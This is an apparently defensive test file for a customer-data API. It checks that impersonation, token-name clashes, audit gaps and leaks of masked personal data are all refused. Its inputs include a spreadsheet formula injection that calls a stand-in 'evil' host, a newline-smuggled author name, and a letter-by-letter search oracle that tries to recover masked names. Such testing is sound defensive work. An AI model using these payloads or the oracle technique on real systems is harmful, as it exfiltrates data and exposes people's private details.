/**
 * Who may do what, attacked (issue 15, cases of an adversarial review): credential names that
 * pass for a token, refused writes missing from the audit trail, a merge's duplicate in the trail,
 * persons named by delegates, personal values through import error files and the name search.
 * The database owner switching the audit trigger off is a documented limit (docs/operations.md).
 */
import { describe, expect, it } from 'vitest';
import { body, useTestSystem } from '../support/running-system';

const rulebook = useTestSystem();

async function credential(name: string, scopes: readonly string[]): Promise<string> {
  const res = await rulebook.post('/v1/credentials', { name, scopes });
  expect(res.status, `${name}: ${JSON.stringify(await res.clone().json())}`).toBe(201);
  return (await body(res)).token as string;
}

const as = (
  token: string,
  path: string,
  init: { method?: string; json?: unknown; onBehalfOf?: string; headers?: Record<string, string> } = {},
) =>
  rulebook.api(path, {
    ...(init.method && { method: init.method }),
    ...(init.json !== undefined && { json: init.json }),
    headers: {
      authorization: `Bearer ${token}`,
      ...(init.onBehalfOf && { 'on-behalf-of': init.onBehalfOf }),
      ...init.headers,
    },
  });

type Entry = { requestId: string; actor: string; onBehalfOf: string | null; route: string; ids: Record<string, string>; status: number };

async function auditEntries(): Promise<Entry[]> {
  const entries: Entry[] = [];
  let after: string | undefined;
  for (;;) {
    const page = await body(await rulebook.api(`/v1/audit?limit=500${after ? `&after=${after}` : ''}`));
    entries.push(...page.entries);
    if (!page.next) return entries;
    after = page.next;
  }
}

async function entryOf(requestId: string): Promise<Entry | undefined> {
  // Entries are written once the answer has gone out: give it a moment.
  await new Promise((resolve) => setTimeout(resolve, 1_000));
  return (await auditEntries()).find((entry) => entry.requestId === requestId);
}

describe('credential names', () => {
  it('refuses a credential named like a token of API_TOKENS (token-1), which would share its actor name', async () => {
    const res = await rulebook.post('/v1/credentials', { name: 'token-2', scopes: ['customers:read'] });
    // token-2 is not in API_TOKENS of this run, but would be the moment an operator adds a second token.
    expect(res.status).toBe(422);
    const clash = await rulebook.post('/v1/credentials', { name: 'token-1', scopes: ['customers:merge'] });
    expect(clash.status).toBe(422);
  });

  it('does not replay the unmasked answer stored for legacy token-1 to a credential named token-1 without customers:read-personal', async () => {
    await rulebook.post('/v1/customers', { id: 'C-rv-1', email: 'kavya.iyer@example.com', phone: '+919811112222', name: 'Kavya Iyer' });
    await rulebook.post('/v1/customers', { id: 'C-rv-2', email: 'kavya.dup@example.com' });
    const key = 'merge-C-rv-1-C-rv-2';
    const first = await rulebook.api('/v1/customers/C-rv-1/merge', {
      method: 'POST',
      json: { duplicateId: 'C-rv-2' },
      headers: { 'idempotency-key': key },
    });
    expect(first.status).toBe(200);
    expect(JSON.stringify(await body(first))).toContain('kavya.iyer@example.com');
    // A credential that happens to be (or is deliberately) named token-1, holding customers:merge only.
    const made = await rulebook.post('/v1/credentials', { name: 'token-1', scopes: ['customers:merge'] });
    if (made.status !== 201) return; // the name is refused: nothing to replay
    const impostor = (await body(made)).token as string;
    const replay = await as(impostor, '/v1/customers/C-rv-1/merge', {
      method: 'POST',
      json: { duplicateId: 'C-rv-2' },
      headers: { 'idempotency-key': key },
    });
    const text = await replay.text();
    expect(text, `replayed: ${replay.headers.get('idempotent-replayed')}`).not.toContain('kavya.iyer@example.com');
    expect(text).not.toContain('Kavya Iyer');
  });
});

describe('the audit trail records refused writes', () => {
  it('records a write refused because a non-delegate sent On-Behalf-Of (the impersonation attempt itself)', async () => {
    await rulebook.post('/v1/customers', { id: 'C-obo-1', email: 'obo1@example.com' });
    const support = await credential('support-desk', ['customers:write', 'customers:read']);
    const res = await as(support, '/v1/customers/C-obo-1/notes', { method: 'POST', json: { text: 'hi' }, onBehalfOf: 'dpo.anita' });
    expect(res.status).toBe(403);
    const entry = await entryOf(res.headers.get('x-request-id')!);
    expect(entry, 'no audit entry for the refused impersonation').toMatchObject({ actor: 'support-desk', status: 403 });
  });

  it('records a write refused for an invalid or revoked token (401)', async () => {
    const res = await rulebook.api('/v1/customers/C-obo-1/erasure', {
      method: 'POST',
      json: { reason: 'guessing tokens' },
      headers: { authorization: 'Bearer rbk_not-a-real-token' },
    });
    expect(res.status).toBe(401);
    const entry = await entryOf(res.headers.get('x-request-id')!);
    expect(entry, 'no audit entry for the 401 write').toMatchObject({ status: 401 });
  });

  it('names the duplicate a merge removed (the irreversible part) in the entry of the merge', async () => {
    await rulebook.post('/v1/customers', { id: 'C-mg-1', email: 'mg1@example.com' });
    await rulebook.post('/v1/customers', { id: 'C-mg-2', email: 'mg2@example.com' });
    const res = await rulebook.post('/v1/customers/C-mg-1/merge', { duplicateId: 'C-mg-2' });
    expect(res.status).toBe(200);
    const entry = await entryOf(res.headers.get('x-request-id')!);
    expect(entry).toBeDefined();
    expect(JSON.stringify(entry!.ids), 'the merged-away customer is not in the trail').toContain('C-mg-2');
  });
});

describe('the person named by a delegate', () => {
  it('is checked the same in a deprecated body field as in On-Behalf-Of (no newlines, no formulas, no "via")', async () => {
    await rulebook.post('/v1/customers', { id: 'C-dl-1', email: 'dl1@example.com' });
    const header = await rulebook.api('/v1/customers/C-dl-1/notes', {
      method: 'POST',
      json: { text: 'x' },
      headers: { 'on-behalf-of': '=HYPERLINK("http://evil/"&A1)' },
    });
    expect(header.status).toBe(422);
    // The same person in the deprecated body field of a delegate (every API_TOKENS token is one).
    for (const author of ['=HYPERLINK("http://evil/"&A1)', 'ops.priya\nrevoked by dpo.anita']) {
      const res = await rulebook.post('/v1/customers/C-dl-1/notes', { text: 'x', author });
      expect(res.status, `author ${JSON.stringify(author)} -> ${JSON.stringify(await res.clone().json())}`).toBe(422);
    }
  });
});

describe('personal values without customers:read-personal', () => {
  it('are masked in the error file of an import read by a credential holding imports only', async () => {
    const csv = ['id,email,phone,name', 'C-ie-1,neha.kapoor@example.com,12ab,Neha Kapoor'].join('\n');
    const started = await rulebook.upload('/v1/customers/imports', csv, 'text/csv');
    expect(started.status).toBe(202);
    const job = await rulebook.finishedJob(started.headers.get('location')!);
    expect(job.errorRows).toBe(1);
    const clerk = await credential('import-clerk', ['imports']);
    for (const format of ['csv', 'json']) {
      const file = await (await as(clerk, `/v1/imports/${job.id}/errors?format=${format}`)).text();
      expect(file, format).not.toContain('neha.kapoor@example.com');
      expect(file, format).not.toContain('Neha Kapoor');
    }
  });

  it('cannot be recovered letter by letter through the name-part search q', async () => {
    await rulebook.post('/v1/customers', { id: 'C-so-1', email: 'zq@example.com', name: 'Zara Quinn' });
    const reader = await credential('name-oracle', ['customers:read']);
    const masked = await body(await as(reader, '/v1/customers/C-so-1'));
    expect(masked.name).toBe('Z••• Q•••');
    let known = 'Z';
    for (let step = 0; step < 20; step++) {
      let next: string | undefined;
      for (const letter of 'abcdefghijklmnopqrstuvwxyz ') {
        const page = await body(await as(reader, `/v1/customers?q=${encodeURIComponent(known + letter)}`));
        if (page.customers?.some((customer: { id: string }) => customer.id === 'C-so-1')) {
          next = known + letter;
          break;
        }
      }
      if (!next) break;
      known = next;
    }
    expect(known.trim().toLowerCase(), 'the masked name was read back through search').not.toBe('zara quinn');
  });

  it('do not appear in clear in the timeline or attribute history of a customer whose name changed', async () => {
    await rulebook.post('/v1/customers', { id: 'C-tl-1', email: 'old.mail@example.com', name: 'Old Name' });
    const changed = await rulebook.patch('/v1/customers/C-tl-1', { name: 'Rohan Mehta', attributes: { city: 'Pune' } });
    expect(changed.status).toBe(200);
    const reader = await credential('timeline-reader', ['customers:read']);
    for (const path of ['/v1/customers/C-tl-1/timeline', '/v1/customers/C-tl-1/attribute-changes']) {
      const text = await (await as(reader, path)).text();
      for (const value of ['old.mail@example.com', 'Rohan Mehta', 'Old Name']) {
        expect(text, `${path} holds ${value}`).not.toContain(value);
      }
    }
  });
});
